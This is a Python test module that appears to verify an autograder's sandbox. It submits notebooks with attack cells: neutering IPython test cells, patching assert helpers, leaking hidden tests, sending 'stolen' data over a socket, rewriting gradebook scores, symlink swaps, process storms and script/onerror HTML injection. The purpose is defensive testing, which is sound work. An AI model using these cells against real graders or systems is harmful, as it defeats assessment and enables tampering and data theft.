"""A hostile class, graded on the real sandbox: every attack is refused, flagged, or graded as if absent.

Each student below hands in the release of one assignment (blank answers, or the solution) with
one attack added as a cell of their own. The attacks only ever aim at the throw-away course this
module makes (relative paths from the kernel's folder, or that course's own absolute path) and
at a listener this module starts on 127.0.0.1; nothing searches the disk.
"""
from __future__ import annotations

import csv
import json
import os
import re
import socket
import sqlite3
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

from coursekit.example_class import expected_autograde_points, fill, solution_sources
from coursekit.grading import grade_class
from coursekit.model import GRADED, NEEDS_REVIEW, Course
from coursekit.paths import assignments
from coursekit.releases import student_notebook
from coursekit.sandbox import probe
from coursekit.sources import write_notebook

from conftest import GRADING_CELL_TIMEOUT_S, region_only_lines, results_by_key, tree_digest, visible_text

ASSIGNMENT = assignments()[-1]  # the quickest notebook: the attacks do not depend on the assignment
MARKER = str(700000 + uuid.uuid4().int % 99999)  # argv of the process that tries to outlive grading
UP = [("../" * depth) for depth in range(0, 9)]  # relative climbs from the kernel's folder to the course


def attacks(course_root: Path, port: int, escape_dir: Path, tmp_name: str) -> dict[str, tuple[str, str]]:
    """student -> (answers: 'blank' or 'complete', the attack cell's source)."""
    return {
        # 1. change how IPython runs later cells: every test cell becomes `pass`
        "input_transformer": ("blank", """
def _neuter(lines):
    text = "".join(lines)
    return ["pass\\n"] if ("assert" in text or "check_close(" in text) else lines
get_ipython().input_transformers_cleanup.append(_neuter)
"""),
        # 1b. the same, sparing anything that does not name the assignment's functions (the grader's own cells)
        "selective_transformer": ("blank", """
def _neuter(lines):
    text = "".join(lines)
    return ["pass\\n"] if ("Hint" in text or "HIDDEN" in text or "_ref" in text) else lines
get_ipython().input_transformers_cleanup.append(_neuter)
"""),
        # 2. swallow every error the tests raise
        "exception_handler": ("blank", """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""),
        # 2b. patch the helpers the tests call
        "patched_helpers": ("blank", """
import numpy as _np
_np.testing.assert_allclose = lambda *args, **kwargs: None
def check_close(*args, **kwargs):
    return None
get_ipython().events.register("post_run_cell", lambda result: get_ipython().user_ns.update(check_close=check_close))
"""),
        # 3. print every later cell (the hidden tests included) as it runs, and keep them for later
        "event_hook_leak": ("complete", """
_seen = []
def _show(info):
    print(info.raw_cell)
    _seen.append(info.raw_cell)
get_ipython().events.register("pre_run_cell", _show)
"""),
        # 3b. read the sources with the hidden tests from disk and print them (and any notebook in the
        # kernel's folder: nbgrader's autograde ran the kernel beside its sanitised copy, hidden tests included)
        "reads_sources": ("complete", f"""
import glob
_found = [p for up in {UP!r} for p in glob.glob(up + "source/*/*.py") + glob.glob(up + "source/*/*.ipynb")]
_found += glob.glob({str(course_root)!r} + "/source/*/*")
_found += glob.glob("*.ipynb") + glob.glob("**/*.ipynb", recursive=True)  # nbgrader left its sanitised copy here
print("FOUND", len(_found))
for _p in _found:
    print(open(_p).read())
"""),
        # 4. reach the network (a listener of this test on 127.0.0.1)
        "network": ("complete", f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
    print("CONNECTED")
except OSError as error:
    print("NO NETWORK", error)
"""),
        # 5. write outside its folder: the test's own temp folder and /tmp
        "writes_outside": ("complete", f"""
for _target in ({str(escape_dir / "pwned.txt")!r}, {"/tmp/" + tmp_name!r}):
    try:
        open(_target, "w").write("pwned")
        print("WROTE", _target)
    except OSError as error:
        print("REFUSED", _target, error)
"""),
        # 6. rewrite the course gradebook: 999 for everybody, and 30/30 for itself through manual scores
        "gradebook_tamper": ("blank", f"""
import sqlite3, os
_hits = 0
for _db in [up + "gradebook.db" for up in {UP!r}] + [{str(course_root / "gradebook.db")!r}]:
    if os.path.exists(_db):
        try:
            _con = sqlite3.connect(_db)
            _con.execute("UPDATE grade SET auto_score = 999")
            _con.execute("UPDATE grade SET manual_score = 30")
            _con.commit()
            _hits += 1
        except Exception as error:
            print("could not write", _db, error)
print("GRADEBOOKS WRITTEN", _hits)
"""),
        # 6b. swap its own notebook for a link to the gradebook, which nbgrader would then write through
        "symlink_swap": ("complete", f"""
import os
for _up in {UP!r}:
    try:
        os.remove("{ASSIGNMENT}.ipynb")
    except OSError as error:
        print("cannot remove", type(error).__name__)
    try:
        os.symlink(_up + "gradebook.db", "{ASSIGNMENT}.ipynb")
        print("SWAPPED")
        break
    except OSError as error:
        print("cannot link", type(error).__name__)
"""),
        # 7. leave a process behind that outlives grading
        "setsid_survivor": ("complete", f"""
import subprocess
try:
    subprocess.Popen(["setsid", "sleep", "{MARKER}"])
except OSError as error:
    print("no setsid", error)
"""),
        # 8. grow to 6.7 GB (allocated lazily: without a cap this costs address space, not memory)
        "memory_hog": ("complete", """
try:
    _hog = bytearray(int(6.7e9))
    print("ALLOCATED")
    del _hog
except MemoryError:
    print("CAPPED")
"""),
        # 9. start as many processes as it can (bounded: 400)
        "process_storm": ("complete", """
import subprocess, sys
_started = []
try:
    for _ in range(400):
        _started.append(subprocess.Popen(["sleep", "30"]))
except Exception as _error:  # the cap: fork fails (EAGAIN)
    print("STOPPED BY", type(_error).__name__)
finally:
    for _p in _started:  # free the slots first: printing must not need a task the cap refuses
        _p.kill()
        _p.wait()
    print("STARTED", len(_started))
    sys.stdout.flush()
"""),
        # 10. a 50 MB single-line print
        "huge_output": ("complete", 'print("x" * 50_000_000)'),
        # 11. live HTML in its markdown and outputs
        "html_injection": ("complete", """
from IPython.display import HTML, display
display(HTML('<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">'))
print('<script>window.pwned = 3</script>')
"""),
    }


EXPECTED = {  # student -> (status, autograded points: 'full' or 0)
    "input_transformer": (NEEDS_REVIEW, 0),
    "selective_transformer": (NEEDS_REVIEW, 0),
    "exception_handler": (NEEDS_REVIEW, 0),
    "patched_helpers": (NEEDS_REVIEW, 0),
    "event_hook_leak": (NEEDS_REVIEW, 0),
    "reads_sources": (GRADED, "full"),
    "network": (GRADED, "full"),
    "writes_outside": (GRADED, "full"),
    "gradebook_tamper": (GRADED, 0),
    "setsid_survivor": (GRADED, "full"),
    "symlink_swap": (GRADED, "full"),
    "memory_hog": (GRADED, "full"),
    "process_storm": (GRADED, "full"),
    "huge_output": (GRADED, "full"),
    "html_injection": (GRADED, "full"),
    "honest": (GRADED, "full"),
}
SCRIPT_NAME = '<img src=x onerror="alert(1)">'


class Listener:
    """A TCP listener on 127.0.0.1 that records whether anyone connected (bounded: one accept loop)."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
                self.connections += 1
                connection.close()
            except OSError:
                continue

    def close(self):
        self.stop.set()
        self.thread.join(5)
        self.server.close()


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker in (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace"):
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    if not probe().available:
        pytest.fail(f"the grading sandbox must work where the tests run: {probe().detail}")
    root = tmp_path_factory.mktemp("hostile")
    course = Course(root / "course")
    escape_dir = root / "escape"
    escape_dir.mkdir()
    tmp_name = f"coursekit-hostile-{uuid.uuid4().hex}.txt"
    listener = Listener()
    release = student_notebook(ASSIGNMENT)
    solutions = solution_sources(ASSIGNMENT)
    answers = {"blank": release, "complete": fill(release, solutions, set(solutions))}
    for student, (base, code) in attacks(course.root, listener.port, escape_dir, tmp_name).items():
        nb = nbformat.from_dict(json.loads(json.dumps(answers[base])))
        nb.cells.insert(1, nbformat.v4.new_code_cell(code.strip()))
        if student == "html_injection":
            nb.cells.insert(1, nbformat.v4.new_markdown_cell('<script>window.pwned = 4</script>\n<img src=x onerror="window.pwned = 5">'))
        write_notebook(nb, course.submitted_dir / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    write_notebook(answers["complete"], course.submitted_dir / "honest" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    # a notebook named to inject HTML into its own feedback (it is reported as renamed)
    write_notebook(answers["complete"], course.submitted_dir / "renamed_html" / ASSIGNMENT / f"{SCRIPT_NAME}.ipynb")
    before = tree_digest(course.submitted_dir)
    try:
        run = grade_class(course, jobs=2, force=True, cell_timeout_s=GRADING_CELL_TIMEOUT_S, progress=False)
        survivors = _processes_with(MARKER)
    finally:
        listener.close()
    for pid in _processes_with(MARKER):  # only if the sandbox failed: clean up what the attack left
        os.kill(pid, 9)
    leftover_tmp = Path("/tmp") / tmp_name
    tmp_existed = leftover_tmp.exists()
    if tmp_existed:
        leftover_tmp.unlink()
    yield {"course": course, "run": run, "listener": listener, "escape_dir": escape_dir, "survivors": survivors,
           "tmp_existed": tmp_existed, "before": before}


def _executed_text(course: Course, student: str) -> str:
    """Everything the kernel printed (outputs only: the attack's own source names the same words)."""
    cells = nbformat.read(course.executed_notebook(student, ASSIGNMENT), as_version=4).cells
    return "\n".join(json.dumps(output) for cell in cells if cell.cell_type == "code" for output in cell.outputs)


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_each_attack_gets_its_expected_outcome(hostile_class, student):
    result = results_by_key(hostile_class["run"])[(student, ASSIGNMENT)]
    status, points = EXPECTED[student]
    assert result.status == status, f"{student}: expected {status!r}, got {result.status!r} ({result.reason})"
    auto = sum(t.points or 0.0 for t in result.tests if not t.manual) if result.status == GRADED else result.points
    want = expected_autograde_points(ASSIGNMENT, "complete") if points == "full" else 0.0
    assert auto == pytest.approx(want), f"{student}: expected {want} autograded points, got {auto}: {result.reason}"


def test_tampering_is_never_given_points_and_says_why(hostile_class):
    course, run = hostile_class["course"], hostile_class["run"]
    rows = {row["student"]: row for row in csv.DictReader(open(course.reports_dir / "grades.csv"))}
    for student, (status, _) in EXPECTED.items():
        if status == NEEDS_REVIEW:
            assert rows[student][f"{ASSIGNMENT} status"] == "needs review", rows[student]
            assert rows[student][ASSIGNMENT] == "0" and "needs review" in rows[student]["notes"]
    from coursekit.reports import summary_lines

    summary = "\n".join(summary_lines(course, run))
    assert "NEEDS REVIEW" in summary and "input_transformer" in summary


def test_the_selective_transformer_is_caught_by_the_kernel_state_check(hostile_class):
    result = results_by_key(hostile_class["run"])[("selective_transformer", ASSIGNMENT)]
    assert "input transformers were changed" in result.reason, result.reason


def test_code_reaching_outside_its_task_is_flagged_for_a_ta(hostile_class):
    course, run = hostile_class["course"], hostile_class["run"]
    results = results_by_key(run)
    expected_flags = {"input_transformer": "get_ipython", "exception_handler": "get_ipython",
                      "reads_sources": "path outside its folder", "network": "imports socket",
                      "gradebook_tamper": "imports sqlite3", "setsid_survivor": "imports subprocess"}
    for student, words in expected_flags.items():
        assert any(words in flag for flag in results[(student, ASSIGNMENT)].flags), (student, results[(student, ASSIGNMENT)].flags)
    assert results[("honest", ASSIGNMENT)].flags == [], "the solution itself must not be flagged"
    rows = {row["student"]: row for row in csv.DictReader(open(course.reports_dir / "grades.csv"))}
    assert "imports socket" in rows["network"]["flags"] and rows["honest"]["flags"] == ""


def test_no_hidden_test_code_reaches_any_feedback(hostile_class):
    course, run = hostile_class["course"], hostile_class["run"]
    hidden = region_only_lines(ASSIGNMENT, "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS", 25)
    assert hidden
    for result in run.results:
        page = course.feedback_dir / result.student / result.assignment / f"{result.assignment}.html"
        if not page.exists():
            continue
        text = visible_text(page.read_text())
        leaked = [line for line in hidden if line in text]
        assert not leaked, f"{result.student}'s feedback shows hidden-test code: {leaked[:2]}"


def test_the_sandbox_hides_the_course_from_the_kernel(hostile_class):
    executed = _executed_text(hostile_class["course"], "reads_sources")
    assert "FOUND 0" in executed, "the kernel found the sources with the hidden tests"


def test_no_network_and_nothing_written_outside_the_sandbox(hostile_class):
    assert hostile_class["listener"].connections == 0, "a kernel reached a listener on 127.0.0.1"
    assert "NO NETWORK" in _executed_text(hostile_class["course"], "network")
    assert not (hostile_class["escape_dir"] / "pwned.txt").exists(), "a kernel wrote outside its folder"
    assert not hostile_class["tmp_existed"], "a kernel wrote into the machine's /tmp"


def test_the_gradebook_is_out_of_reach_and_other_grades_are_intact(hostile_class):
    course, run = hostile_class["course"], hostile_class["run"]
    assert "GRADEBOOKS WRITTEN 0" in _executed_text(course, "gradebook_tamper")
    # the kernel works on a private in-memory copy of its folder (a warm kernel may even rearrange it):
    # what nbgrader writes is on the grader's side, a plain notebook, never a link the kernel made
    executed = course.executed_notebook("symlink_swap", ASSIGNMENT)
    assert executed.is_file() and not executed.is_symlink(), "a kernel replaced the notebook nbgrader writes"
    assert nbformat.read(executed, as_version=4).cells, "the executed notebook is not a notebook"
    with sqlite3.connect(course.gradebook) as db:
        assert db.execute("SELECT COUNT(*) FROM grade WHERE auto_score = 999 OR manual_score = 30").fetchone()[0] == 0
    assert results_by_key(run)[("honest", ASSIGNMENT)].points == expected_autograde_points(ASSIGNMENT, "complete")


def test_nothing_outlives_grading(hostile_class):
    assert hostile_class["survivors"] == [], "a process started by a kernel outlived make grade"


def test_memory_and_processes_are_capped(hostile_class):
    course = hostile_class["course"]
    assert "CAPPED" in _executed_text(course, "memory_hog"), "a kernel allocated 6.7 GB"
    printed = _executed_text(course, "process_storm")
    count = re.search(r"STARTED (\d+)", printed)
    assert count, f"the process storm printed no count; its outputs: {printed[:3000]}"
    started = int(count.group(1))
    assert started < 128, f"a kernel started {started} processes"


def test_feedback_is_capped_and_escaped(hostile_class):
    course = hostile_class["course"]
    page = course.feedback_dir / "huge_output" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert page.stat().st_size < 2_000_000, f"a 50 MB print made a {page.stat().st_size:,}-byte feedback page"
    page = (course.feedback_dir / "html_injection" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert not re.search(r"<script\b[^>]*>[^<]*pwned", page), "a submission's script is live in its feedback"
    assert not re.search(r"<[a-z]+\b[^>]*\bonerror\s*=", page, re.I), "a submission's event handler is live in its feedback"
    renamed = (course.feedback_dir / "renamed_html" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "found" in renamed and not re.search(r"<img\b[^>]*onerror", renamed), "the notebook's name produced live HTML"


def test_the_submitted_folder_is_untouched(hostile_class):
    assert tree_digest(hostile_class["course"].submitted_dir) == hostile_class["before"]
